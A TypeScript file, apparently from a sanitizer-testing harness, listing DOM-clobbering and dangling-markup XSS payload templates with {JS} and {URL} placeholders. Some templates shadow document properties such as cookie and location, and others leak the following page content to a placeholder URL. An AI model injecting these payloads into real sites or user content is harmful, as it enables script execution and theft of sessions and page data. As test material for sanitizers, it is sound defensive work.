/** Attacks on the document around the body: its names, and what stands behind unclosed markup. */
import type { AttackClass } from './payload.ts';

const CLOBBERED = [
  'body',
  'head',
  'documentElement',
  'getElementById',
  'querySelector',
  'cookie',
  'defaultView',
  'forms',
  'sheaf',
  'location',
  'top',
  'parent',
  '__proto__',
  'constructor',
  'addEventListener',
];

/** Ids and names that take the place of properties. */
export const CLOBBERING: AttackClass = [
  ...CLOBBERED.map(
    (name) =>
      `<a id=${name}>x</a><img name=${name} src=x onerror="{JS}"><h2 id="${name}">${name}</h2><p id="${name}">y</p>`,
  ),
  '<form id=x><input id=attributes name=attributes><input name=childNodes><img src=x onerror="{JS}"></form>',
  '<form><input name=nodeName><input name=parentNode><input name=remove></form><img src=x onerror="{JS}">',
  '<a id=defaultAction href="javascript:{JS}"></a><a id=defaultAction name=avatar href="cid:&quot;onerror={JS}//"></a>',
  '<iframe name=sheaf srcdoc="<a id=call href=javascript:{JS}></a>"></iframe>',
  '<object id=currentScript data="{URL}"></object><embed name=currentScript src="{URL}">',
  '<html id=documentElement onclick="{JS}" lang=x class=y><body id=body onload="{JS}">',
  '<a id="s-x">x</a><a id="s-s-x">x</a><a href="#s-x">y</a><a href="#x" id="article">z</a>',
  '<output id=nodeType>x</output><fieldset id=elements><button name=click onclick="{JS}">z</button></fieldset>',
];

/** Markup that is never ended, so that what follows becomes part of it. */
export const DANGLING: AttackClass = [
  `<img src='{URL}?`,
  '<img src="{URL}?',
  '<img src={URL}?',
  '<a href="{URL}?',
  `<a href='javascript:{JS}`,
  '<a href="https://news.example.com/" target="',
  '<base href="{URL}/',
  `<base target='`,
  '<form action="{URL}"><textarea name=q>',
  '<form action={URL}><button>go</button><select name=q><option>',
  '<button form=x formaction="{URL}?',
  `<meta http-equiv=refresh content='0;url={URL}?`,
  `<link rel=stylesheet href='{URL}?`,
  `<iframe src='{URL}?`,
  '<iframe name="',
  `<object data='{URL}?`,
  '<style>@import "{URL}?',
  '<style>*{background:url({URL}?',
  '<p style="background:url({URL}?',
  '<script>{JS};/*',
  '<script src="{URL}" x="',
  '<!-- x',
  '<svg><style>@import "{URL}?',
  '<math><annotation-xml encoding="text/html"><xmp>',
  '<noscript><p title="',
  '<template><p onclick="{JS}',
  '<p onmouseover="{JS}',
  '<img src=x onerror={JS} x="',
  '<img src=x onerror={JS} ',
  '</body></html><script>{JS}</script>',
  '</article></main></iframe></body><img src=x onerror="{JS}">',
];
